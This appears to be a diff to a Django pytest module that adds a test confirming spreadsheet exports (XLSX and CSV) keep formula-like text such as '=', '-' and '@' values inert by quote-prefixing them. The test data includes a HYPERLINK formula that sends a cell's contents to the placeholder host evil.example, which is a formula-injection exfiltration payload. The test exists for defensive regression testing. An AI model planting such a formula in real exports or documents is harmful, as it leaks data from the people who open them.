@@ -1,12 +1,20 @@
 """Hostile and odd input to the register: uploads, exports, records whose files or cities are missing (issue 14)."""
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import load_workbook
 
 from utblick.core.tests import hostile
 from utblick.engagements.imports import INLINE_BYTES
 from utblick.engagements.models import Engagement, EngagementImport
 from utblick.strategies.tests.factories import strategy_for
+
+from .factories import EngagementFactory
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Klicka här")'
 
 
 def _import_url(world, kind: str = "training") -> str:
@@ -68,3 +76,20 @@ def test_a_csv_with_doubled_quotes_and_swedish_numbers_is_imported_column_by_col
     assert engagement.title == 'Besök "Hamnen", etapp 2'
     assert engagement.training.topic.splitlines() == ["EU-program;", "flera dagar"]  # a line break inside quotes
     assert engagement.training.participants == 6
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_exports_and_numbers_stay_numbers(world, client_for):
+    EngagementFactory(owner_unit=world.unit_a, title=FORMULA, case_number="-2026/17", expected_results="@SUM(A1:A9)")
+    client = client_for("reader_a")
+    workbook = load_workbook(io.BytesIO(client.get(f"/o/{world.org_a.slug}/engagements/export/?format=xlsx").content))
+    header, row = list(workbook.active.iter_rows(max_row=2))
+    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
+    title = cells["Titel"]
+    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)  # shown as written, never run
+    assert cells["Diarienummer"].data_type == "s" and cells["Diarienummer"].quotePrefix
+    assert cells["Id"].data_type == "n" and isinstance(cells["Id"].value, int)
+
+    text = client.get(f"/o/{world.org_a.slug}/engagements/export/?format=csv").content.decode("utf-8-sig")
+    exported = dict(zip(*list(csv.reader(io.StringIO(text)))[:2], strict=True))
+    assert exported["Titel"] == "'" + FORMULA
+    assert exported["Diarienummer"] == "'-2026/17" and exported["Förväntade resultat"] == "'@SUM(A1:A9)"
